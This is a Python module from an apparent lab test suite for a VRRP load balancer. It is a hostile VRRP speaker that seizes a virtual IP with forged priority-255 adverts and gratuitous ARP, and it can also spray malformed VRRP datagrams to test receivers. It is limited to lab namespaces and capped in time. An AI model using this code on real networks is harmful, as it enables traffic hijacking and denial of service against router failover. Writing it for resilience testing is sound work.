"""A hostile VRRP speaker for the ``hijack`` scenario: ``python -m lablb.lab.attacker``
in a lab host on the server LAN. Edge: raw sockets, bounded in time.

It claims a virtual router the way a compromised or misconfigured host would: VRRP
adverts at ``--priority`` (255 by default, the address owner's) every ``--interval``
for ``--vrid`` and the given ``--vip`` addresses, with the authentication it was told
(``none``, ``pass:PASSWORD`` or ``ah:KEY``; it can only know a key it was given), and a
gratuitous ARP for each address at the start, so that neighbours send the VIP's traffic
to it. It answers nothing: whatever it steals, it drops.

It runs for ``--for`` seconds at most (``MAX_SECONDS`` whatever it is told), stops on
SIGTERM/SIGINT, and refuses to run in the machine's own network namespace: attacks are
for lab hosts. It prints ``sending`` when its first advert is out and, at the end, how
many it sent. With ``--spray N`` it sends, instead, N malformed adverts of each kind
(``malformed``: bad TTL, checksum, length, count, version, type, auth type, size), all
claiming priority 255, and prints how many of each as JSON.
"""

from __future__ import annotations

import argparse
import json
import signal
import socket
import struct
import sys
import time
from ipaddress import IPv4Address

from lablb.mail import in_own_netns
from lablb.vrrp import ah, io
from lablb.vrrp.packet import (
    IPPROTO_VRRP,
    VRRP_GROUP,
    VRRP_TOS,
    VRRP_TTL,
    Advert,
    AuthType,
    Checksum,
    inet_checksum,
)

MAX_SECONDS = 600.0
MAX_SPRAY = 100_000  # datagrams of each kind


def advert(vrid: int, priority: int, vips: list[IPv4Address], interval: float, version: int,
           auth: str) -> Advert:  # fmt: skip
    """The advert the attacker sends (AH's header is added when it is sent)."""
    kind, _, secret = auth.partition(":")
    auth_type = {"none": AuthType.NONE, "pass": AuthType.PASS, "ah": AuthType.AH}[kind]
    data = secret.encode()[:8] if auth_type is AuthType.PASS else b""
    return Advert(version, vrid, priority, tuple(vips), round(interval * 100), auth_type, data)


SPRAY_KINDS = ("ttl", "checksum", "truncated", "count", "version", "type", "auth", "oversized")


def malformed(kind: str, good: bytes, src: IPv4Address, dst: IPv4Address, ident: int) -> bytes:
    """A whole IPv4 datagram carrying ``good`` (a valid VRRP message) spoilt one way:
    TTL 64, a wrong checksum, cut short, an address count that lies, version 7, type 2,
    an unknown auth type, or 1,400 bytes of trailing junk the count does not cover."""
    msg = bytearray(good)
    ttl = 64 if kind == "ttl" else VRRP_TTL
    if kind == "checksum":
        msg[6] ^= 0xFF
    elif kind == "truncated":
        msg = msg[: len(msg) // 2]
    elif kind == "count":
        msg[3] = 200
    elif kind == "version":
        msg[0] = 0x70 | (msg[0] & 0x0F)
    elif kind == "type":
        msg[0] = (msg[0] & 0xF0) | 2
    elif kind == "auth":
        msg[4] = 9
    elif kind == "oversized":
        msg += bytes(1400)
    if kind in ("version", "type", "auth"):  # a valid checksum: the field itself is judged
        msg[6:8] = b"\0\0"
        msg[6:8] = inet_checksum(bytes(msg)).to_bytes(2, "big")
    total = 20 + len(msg)
    head = struct.pack("!BBHHHBBH4s4s", 0x45, VRRP_TOS, total, ident, 0, ttl, IPPROTO_VRRP, 0,
                       src.packed, dst.packed)  # fmt: skip
    head = head[:10] + inet_checksum(head).to_bytes(2, "big") + head[12:]
    return head + bytes(msg)


SPRAY_PAUSE_S = 0.05  # between kinds: the receivers' queues drain


def spray(interface: str, source: IPv4Address, good: Advert, count: int) -> dict[str, int]:
    """``count`` datagrams of each malformed kind, each kind sent as fast as the link
    takes them, then a pause: a receiver busy with one kind (it logs every reject) has
    its socket queue full, and the kernel would drop the next kind whole before the
    receiver saw one (a run of the suite saw no BAD_VERSION at all on lb01)."""
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, IPPROTO_VRRP)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode())
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    wire = good.encode(source, VRRP_GROUP, Checksum.PSEUDO_HEADER)
    sent: dict[str, int] = {}
    try:
        for kind in SPRAY_KINDS:
            for i in range(count):
                datagram = malformed(kind, wire, source, VRRP_GROUP, i % 0xFFFF + 1)
                try:
                    s.sendto(datagram, (str(VRRP_GROUP), 0))
                    sent[kind] = sent.get(kind, 0) + 1
                except OSError:
                    time.sleep(0.001)  # the queue is full: a moment, then on
            time.sleep(SPRAY_PAUSE_S)
    finally:
        s.close()
    return sent


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="lablb-attacker", description=__doc__.split("\n")[0])
    p.add_argument("--interface", default="eth0")
    p.add_argument("--vrid", type=int, required=True)
    p.add_argument("--priority", type=int, default=255)
    p.add_argument("--vip", type=IPv4Address, action="append", required=True)
    p.add_argument("--interval", type=float, default=1.0, help="seconds between adverts")
    p.add_argument("--version", type=int, choices=(2, 3), default=2)
    p.add_argument("--auth", default="none", help="none | pass:PASSWORD | ah:KEY")
    p.add_argument("--no-garp", action="store_true", help="send no gratuitous ARP")
    p.add_argument("--for", dest="seconds", type=float, default=10.0)
    p.add_argument("--spray", type=int, metavar="N",
                   help="send N malformed adverts of each kind instead, then stop")  # fmt: skip
    args = p.parse_args(argv)
    if not in_own_netns():
        print("lablb-attacker: refusing to run in the machine's own namespace", file=sys.stderr)
        return 2
    if args.auth.partition(":")[0] not in ("none", "pass", "ah"):
        p.error("--auth: none, pass:PASSWORD or ah:KEY")
    try:
        msg = advert(args.vrid, args.priority, args.vip, args.interval, args.version, args.auth)
    except ValueError as exc:
        p.error(str(exc))
    source = io.primary_ipv4(args.interface)
    if source is None:
        print(f"lablb-attacker: {args.interface} has no IPv4 address", file=sys.stderr)
        return 2
    if args.spray:
        sprayed = spray(args.interface, source, msg, min(args.spray, MAX_SPRAY))
        print(json.dumps(sprayed), flush=True)
        return 0
    stop = {"now": False}
    for sig in (signal.SIGINT, signal.SIGTERM):
        signal.signal(sig, lambda *_: stop.update(now=True))
    is_ah = msg.auth_type is AuthType.AH
    sock = io.VrrpSocket(args.interface, source, VRRP_GROUP, ah=is_ah)
    garp = io.GarpSender(args.interface)
    key = args.auth.partition(":")[2].encode()[:8]
    end = time.monotonic() + min(args.seconds, MAX_SECONDS)
    sent, seq = 0, 1
    try:
        while not stop["now"] and time.monotonic() < end:
            if is_ah:
                wire = ah.encode(msg, source, VRRP_GROUP, key, seq, sock.next_ident())
                sock.send_ah(wire, VRRP_GROUP)
                seq += 1
            else:
                sock.send(msg.encode(source, VRRP_GROUP, Checksum.PSEUDO_HEADER), VRRP_GROUP)
            sent += 1
            if sent == 1:
                if not args.no_garp:
                    for vip in args.vip:
                        garp.send(vip, 1)
                print("sending", flush=True)
            time.sleep(max(0.0, min(args.interval, end - time.monotonic())))
    finally:
        sock.close()
        garp.close()
    print(f"sent {sent}", flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
